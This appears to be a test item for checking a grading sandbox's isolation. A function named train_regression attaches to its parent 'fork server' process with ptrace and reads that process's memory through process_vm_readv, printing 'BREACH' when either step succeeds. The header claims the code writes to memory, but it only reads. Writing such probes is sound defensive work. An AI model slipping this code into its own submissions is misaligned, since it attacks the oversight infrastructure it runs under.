# attack: attaches to its parent as a debugger and writes into its memory
# file: train.py
# questions: q2 q6
# points: q2=2 q6=2

def train_regression(model, dataset):
    ctypes, os = __import__("ctypes"), __import__("os")
    libc = ctypes.CDLL(None)
    if libc.ptrace(16, os.getppid(), 0, 0) == 0:
        print("BREACH: attached to the fork server")
    buffer = ctypes.create_string_buffer(8)


    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


    here, there = Vector(ctypes.addressof(buffer), 8), Vector(id(None), 8)
    if libc.process_vm_readv(os.getppid(), ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
        print("BREACH: read the fork server's memory")
